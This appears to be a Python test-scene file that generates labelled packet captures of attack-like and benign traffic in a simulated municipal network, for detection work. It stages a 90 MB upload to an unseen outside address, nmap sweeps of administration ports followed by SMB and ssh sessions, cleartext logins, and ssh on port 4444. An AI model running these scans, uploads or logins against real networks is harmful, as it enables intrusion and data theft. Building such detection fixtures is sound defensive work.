# SPDX-License-Identifier: AGPL-3.0-or-later
"""Who speaks to whom, how much, how long, on which port, under which certificate."""
import services
import work
from scene import scene
from services import USERS
from town import HERE, LAN

DAY = 86400
BIG = 90_000_000


def usual_day(town, desk):
    for number in range(4):
        work.browse(desk, '198.51.100.80')
        work.upload(desk, 'http://203.0.113.21/depot', 150_000 + 40_000 * number)
        work.sleep(0.4)


@scene(
    'exfiltration/positive',
    'four days of browsing and small deposits at the usual partner; on the fifth, 90 MB leave for an address never seen',
    'curl, cards that cut segments by themselves',
    {'ip.dst==203.0.113.66 && tcp.len > 0': 1300},
    seconds=40,
    clock='five days; x600 within the day, x20 in the leak; cut at 80',
)
def leak(make):
    with make(lan=['accueil', 'mairie'], net=['web', 'partenaire', 'depot'], offload=True) as town:
        for host in (town.web, town.partenaire, town.depot):
            services.web(host)
        for day in range(4):
            with town.capture(snap=80, at=day * DAY, factor=600):
                usual_day(town, town.accueil)
        with town.capture(snap=80, at=4 * DAY, factor=600):
            usual_day(town, town.accueil)
        with town.capture(snap=80, at=4 * DAY + 7200, factor=20):
            work.upload(town.accueil, 'http://203.0.113.66/depot', BIG)


@scene(
    'exfiltration/near-miss',
    'the same days; on the fifth, 90 MB are saved on the file server, 20 MB of updates come in, and the usual partner receives '
    'the usual',
    'curl',
    {f'ip.dst=={LAN}.11 && tcp.len > 0': 1300},
    seconds=40,
    clock='five days; x600 within the day, x20 in the backup; cut at 80',
)
def backup(make):
    with make(lan=['accueil', 'mairie', 'fichiers'], net=['web', 'partenaire'], offload=True) as town:
        for host in (town.web, town.partenaire, town.fichiers):
            services.web(host)
        (town.web.dir / 'www' / 'gros.bin').write_bytes(b'Mise a jour. ' * 1_500_000)
        for day in range(5):
            with town.capture(snap=80, at=day * DAY, factor=600):
                usual_day(town, town.accueil)
        with town.capture(snap=80, at=4 * DAY + 7200, factor=20):
            work.upload(town.accueil, f'http://{LAN}.11/depot', BIG)
            work.browse(town.accueil, '198.51.100.80', pages=['gros.bin'])


ADMIN_PORTS = '22,135,445,3389,5985'


@scene(
    'lateral-movement/positive',
    'a desk tries the administration ports of eight others, opens shares and ssh sessions on those that answer',
    'nmap -sT, smbclient, ssh, rdp_door.py',
    {f'tcp.flags.syn==1 && tcp.flags.ack==0 && ip.src=={LAN}.31': 40, 'smb2': 20, 'ssh': 20},
    seconds=35,
    clock='x10 overall',
)
def lateral(make):
    peers = ['serveur', 'fichiers', 'etat-civil', 'supervision', 'mairie', 'urbanisme', 'compta', 'police']
    with make(lan=[*peers, 'accueil']) as town:
        for name in ('fichiers', 'compta'):
            services.samba(town.hosts[name])
        for name in ('serveur', 'etat-civil', 'supervision', 'police'):
            services.ssh(town.hosts[name])
        for name in ('mairie', 'urbanisme'):
            services.rdp(town.hosts[name])
        with town.capture(factor=10):
            for name in peers:
                town.accueil.run(f'nmap -n -Pn -sT -p {ADMIN_PORTS} --max-retries 0 {town.hosts[name].ip}', timeout=20)
            for name in ('fichiers', 'compta'):
                work.smb(town.accueil, town.hosts[name].ip)
            for name in ('serveur', 'etat-civil', 'supervision', 'police'):
                work.ssh(town.accueil, town.hosts[name].ip, 'id', user='admin')
            for name in ('mairie', 'urbanisme'):
                town.accueil.run(['python3', HERE / 'rdp_door.py', 'try', town.hosts[name].ip, 'admin', '1', '0', 'stay', '2'])


@scene(
    'lateral-movement/near-miss',
    'a desk uses its file share, its printer and one remote desktop; the administrator keeps three servers by ssh, as every day',
    'smbclient, nc, rdp_door.py, ssh',
    {'smb2': 20, 'ssh': 20},
    seconds=30,
    clock='x60 overall',
)
def usual_peers(make):
    with make(lan=['serveur', 'fichiers', 'etat-civil', 'supervision', 'imprimante', 'accueil']) as town:
        services.samba(town.fichiers)
        services.rdp(town.etat_civil)
        services.open_ports(town.imprimante, 9100)
        for host in (town.serveur, town.fichiers, town.etat_civil):
            services.ssh(host)
        with town.capture(factor=60):
            for _ in range(2):
                work.smb(town.accueil, f'{LAN}.11')
                town.accueil.run(f'head -c 20000 /dev/zero | nc -q 0 -w 2 {LAN}.50 9100')
                town.accueil.run(['python3', HERE / 'rdp_door.py', 'try', f'{LAN}.12', 'accueil', '1', '0', 'stay', '3'])
                for host in (town.serveur, town.fichiers, town.etat_civil):
                    work.ssh(town.supervision, host.ip, 'uptime')
                work.sleep(2)


@scene(
    'long-connection/positive',
    'a desk keeps one ssh connection open to an outside address for more than eight hours',
    'ssh and a command that prints the date',
    {'ssh': 40, f'tcp.flags.syn==1 && tcp.flags.ack==0 && ip.src=={LAN}.31': 1},
    seconds=45,
    clock='silences x850',
)
def long(make):
    with make(lan=['accueil'], net=['inconnu']) as town:
        services.ssh(town.inconnu)
        with town.capture(pause='0.5:850'):
            work.ssh(town.accueil, '203.0.113.99', 'for n in $(seq 36); do date; sleep 1; done', timeout=50)


@scene(
    'long-connection/near-miss',
    'forty minutes of remote help by ssh with a partner, and an application that keeps its database connection all day, inside',
    'ssh; redis-cli',
    {'ssh': 20, 'tcp.port==6379': 40},
    seconds=60,
    clock='ssh x96; inside, silences x1200',
)
def help_session(make):
    with make(lan=['accueil', 'serveur', 'etat-civil'], net=['partenaire']) as town:
        services.ssh(town.partenaire)
        services.redis(town.etat_civil)
        with town.capture(at=0, pause='0.5:1200'):
            town.serveur.run(
                f'(for n in $(seq 25); do echo PING; sleep 1; done) | redis-cli -h {LAN}.12 --no-auth-warning -a {USERS["mairie"]}',
                timeout=40,
            )
        with town.capture(at=3600, factor=96):
            work.ssh_typed(town.accueil, '203.0.113.21', ['ls', 'df -h', 'date'] * 8, pause=1)


@scene(
    'cleartext-credentials/positive',
    'a password crosses the network readable: FTP, HTTP basic, telnet',
    'ftp, curl -u, telnet',
    {'ftp.request.command=="PASS"': 1, 'http.authbasic': 1, 'telnet': 10},
    seconds=25,
)
def clear(make):
    with make(lan=['fichiers', 'serveur', 'urbanisme', 'mairie'], net=['partenaire']) as town:
        services.ftp(town.partenaire)
        services.web(town.serveur)
        services.telnet(town.fichiers)
        with town.capture():
            work.ftp_session(town.urbanisme, '203.0.113.21', 'plans', USERS['plans'])
            town.mairie.run(f'curl -s -u mairie:{USERS["mairie"]} http://{LAN}.10/prive/')
            town.mairie.run(
                f'(sleep 1; echo mairie; sleep 1; echo "{USERS["mairie"]}"; sleep 1.5; echo id; sleep 1; echo exit; sleep 1) | telnet {LAN}.11',
                timeout=15,
            )


@scene(
    'cleartext-credentials/near-miss',
    'the same gestures, safe: basic authentication inside TLS, ssh with a password, anonymous FTP, a page that asks for a '
    'password and gets none',
    'curl over TLS, ssh, ftp',
    {'tls': 5, 'ssh': 10, 'ftp.request.command=="USER"': 1, 'http.authbasic': 0},
    seconds=20,
)
def not_clear(make):
    with make(lan=['fichiers', 'serveur', 'urbanisme', 'mairie'], net=['partenaire']) as town:
        services.ftp(town.partenaire, anonymous=True)
        services.web(town.serveur, tls='valid')
        services.ssh(town.fichiers)
        with town.capture():
            work.ftp_session(town.urbanisme, '203.0.113.21', 'anonymous', 'visiteur@valbourg.example', put=False)
            town.mairie.run(f'curl -sk -u mairie:{USERS["mairie"]} https://{LAN}.10/prive/')
            town.mairie.run(f'curl -s http://{LAN}.10/prive/')
            work.ssh(town.mairie, f'{LAN}.11', 'uptime')


@scene(
    'odd-port/positive',
    'ssh on port 8443, ssh on port 4444, TLS on port 53',
    'ssh -p, curl',
    {
        'tcp.port==8443 && tcp.payload contains "SSH-2.0"': 2,
        'tcp.port==4444 && tcp.payload contains "SSH-2.0"': 2,
        'tcp.port==53 && tcp.len > 100': 2,
    },
)
def odd(make):
    with make(lan=['accueil'], net=['inconnu']) as town:
        services.ssh(town.inconnu, port=8443)
        services.ssh(town.inconnu, port=4444)
        services.web(town.inconnu, tls='self', port=None, tls_port=53)
        with town.capture():
            work.ssh(town.accueil, '203.0.113.99', 'uptime', port=8443)
            work.ssh(town.accueil, '203.0.113.99', 'uptime', port=4444)
            town.accueil.run('curl -sk -o /dev/null https://203.0.113.99:53/page.html')


@scene(
    'odd-port/near-miss',
    'TLS on 8443, HTTP on 8080, ssh on 22, DNS over TCP on 53: unusual for some, right all the same',
    'curl, ssh, dig +tcp',
    {'tcp.port==8443 && tls': 4, 'http && tcp.port==8080': 2, 'ssh': 10, 'dns && tcp': 2},
)
def known_ports(make):
    with make(lan=['accueil', 'serveur'], net=['resolver', 'partenaire']) as town:
        services.internet_dns(town)
        services.web(town.serveur, tls='valid', port=8080, tls_port=8443)
        services.ssh(town.partenaire)
        with town.capture():
            town.accueil.run(f'curl -sk -o /dev/null https://{LAN}.10:8443/page.html')
            town.accueil.run(f'curl -s -o /dev/null http://{LAN}.10:8080/page.html')
            work.ssh(town.accueil, '203.0.113.21', 'uptime')
            work.look_up(town.accueil, 'www.journal.example', server='198.51.100.53', options='+tcp +time=2')


def one_certificate(make, name, chain=None):
    with make(lan=['etat-civil', 'accueil', 'mairie']) as town:
        services.web(town.etat_civil, tls=name, chain=chain)
        with town.capture():
            for host in (town.accueil, town.mairie):
                site = {'self': 'imprimante', 'valid': 'intranet'}.get(name, 'etat-civil') + '.valbourg.example'
                work.browse(host, site, tls=True, extra=f'--resolve {site}:443:{LAN}.12')


@scene(
    'certificate-expired/positive',
    'a server whose certificate ended on 2025-12-01',
    'nginx, TLS 1.2, curl -k',
    {'tls.handshake.type==11': 2},
    seconds=8,
)
def expired(make):
    one_certificate(make, 'expired')


@scene(
    'certificate-expired/near-miss',
    'the same server, with a certificate that ends on 2026-07-20 (four months and a half after the capture)',
    'nginx, TLS 1.2, curl -k',
    {'tls.handshake.type==11': 2},
    seconds=8,
)
def not_expired(make):
    one_certificate(make, 'soon')


@scene(
    'certificate-self-signed/positive',
    'the printer shows a certificate it signed itself',
    'nginx, TLS 1.2, curl -k',
    {'tls.handshake.type==11': 2},
    seconds=8,
)
def self_signed(make):
    one_certificate(make, 'self')


@scene(
    'certificate-self-signed/near-miss',
    'a server certificate signed by the authority of the town; the chain carries the root, which is self-signed, as a root must be',
    'nginx, TLS 1.2, curl -k',
    {'tls.handshake.type==11': 2},
    seconds=8,
)
def signed(make):
    one_certificate(make, 'valid', chain='chain')
